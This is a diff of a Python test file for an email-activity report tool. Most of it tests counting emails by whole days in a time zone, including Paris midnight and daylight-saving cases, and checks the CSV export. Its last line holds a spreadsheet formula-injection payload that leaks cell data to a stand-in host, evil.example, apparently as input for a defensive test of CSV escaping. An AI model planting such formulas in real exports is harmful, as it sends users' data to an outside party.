@@ -4,7 +4,10 @@ from __future__ import annotations
 
 import csv
 import io
-from datetime import UTC, date, datetime, timedelta
+import time
+from collections.abc import Iterator
+from datetime import UTC, date, datetime, timedelta, tzinfo
+from zoneinfo import ZoneInfo
 
 import pytest
 
@@ -26,16 +29,84 @@ def test_copies_of_one_email_count_once_and_drafts_not_at_all(workspace: Workspa
     assert rows == sorted(rows, key=lambda r: -r.emails)
 
 
-def test_a_period_is_whole_utc_days(workspace: Workspace) -> None:
+def test_a_period_is_whole_days_in_the_zone_given(workspace: Workspace) -> None:
     first = workspace.conn.execute(
         "SELECT min(sort_date) FROM messages WHERE logged = 1"
     ).fetchone()[0]
     day = datetime.fromtimestamp(first, UTC).date()
-    start, end = period(day, day)
+    start, end = period(day, day, UTC)
     assert end - start == 86_400
     assert sum(r.emails for r in activity(workspace.conn, workspace.account, start, end)) >= 1
-    before = period(day - timedelta(days=1), day - timedelta(days=1))
+    before = period(day - timedelta(days=1), day - timedelta(days=1), UTC)
     assert sum(r.emails for r in activity(workspace.conn, workspace.account, *before)) == 0
+
+
+PARIS = ZoneInfo("Europe/Paris")
+# Logged emails around midnight in Paris (winter UTC+1, summer UTC+2), long before the demo's.
+NEAR_MIDNIGHT = {
+    "late on the 14th": datetime(2025, 1, 14, 23, 30, tzinfo=PARIS),  # 22:30 UTC, the 14th
+    "early on the 15th": datetime(2025, 1, 15, 0, 30, tzinfo=PARIS),  # 23:30 UTC, the 14th
+    "early on 1 July": datetime(2025, 7, 1, 0, 15, tzinfo=PARIS),  # 22:15 UTC, 30 June
+}
+
+
+def _near_midnight(workspace: Workspace) -> None:
+    """Three logged emails of the demo moved to the moments above."""
+    rows = workspace.conn.execute(
+        "SELECT m.id FROM messages m JOIN folders f ON f.id = m.folder_id"
+        " WHERE m.logged = 1 AND f.role = 'sent' AND m.message_id IS NOT NULL"
+        " GROUP BY m.message_id HAVING count(*) = 1 ORDER BY m.id LIMIT 3"
+    ).fetchall()
+    for (row,), moment in zip(rows, NEAR_MIDNIGHT.values(), strict=True):
+        workspace.conn.execute(
+            "UPDATE messages SET sort_date = ? WHERE id = ?", (moment.timestamp(), row)
+        )
+
+
+def _total(workspace: Workspace, first: date, last: date, tz: tzinfo | None) -> int:
+    start, end = period(first, last, tz)
+    return sum(r.emails for r in activity(workspace.conn, workspace.account, start, end))
+
+
+def test_emails_around_midnight_in_paris_count_on_the_reps_day(workspace: Workspace) -> None:
+    _near_midnight(workspace)
+    jan14, jan15 = date(2025, 1, 14), date(2025, 1, 15)
+    june30, july1 = date(2025, 6, 30), date(2025, 7, 1)
+    assert _total(workspace, jan14, jan14, PARIS) == 1
+    assert _total(workspace, jan15, jan15, PARIS) == 1
+    assert _total(workspace, june30, june30, PARIS) == 0
+    assert _total(workspace, july1, july1, PARIS) == 1
+    # In UTC days, the same emails fall on the day before: what the rep did not see.
+    assert _total(workspace, jan14, jan14, UTC) == 2
+    assert _total(workspace, jan15, jan15, UTC) == 0
+    assert _total(workspace, june30, june30, UTC) == 1
+
+
+@pytest.fixture
+def in_paris(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
+    """This process's local zone is Europe/Paris (TZ, as a rep's system sets it)."""
+    monkeypatch.setenv("TZ", "Europe/Paris")
+    time.tzset()
+    yield
+    monkeypatch.undo()
+    time.tzset()
+
+
+@pytest.mark.usefixtures("in_paris")
+def test_the_default_zone_is_the_systems_and_the_command_uses_it(
+    workspace: Workspace, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    _near_midnight(workspace)
+    assert _total(workspace, date(2025, 1, 15), date(2025, 1, 15), None) == 1
+    start, end = period(date(2025, 3, 30), date(2025, 3, 30))  # the clocks go forward
+    assert (start, end) == period(date(2025, 3, 30), date(2025, 3, 30), PARIS)
+    assert end - start == 23 * 3600
+    monkeypatch.setattr("core.store.db.default_path", lambda: workspace.path)
+    out, err = io.StringIO(), io.StringIO()
+    args = ["activity", "--from", "2025-01-15", "--to", "2025-01-15", "--csv"]
+    assert main([*args, "--account", "demo"], out, err, io.StringIO()) == 0, err.getvalue()
+    counts = [int(row[3]) for row in list(csv.reader(io.StringIO(out.getvalue())))[1:]]
+    assert sum(counts) == 1
 
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
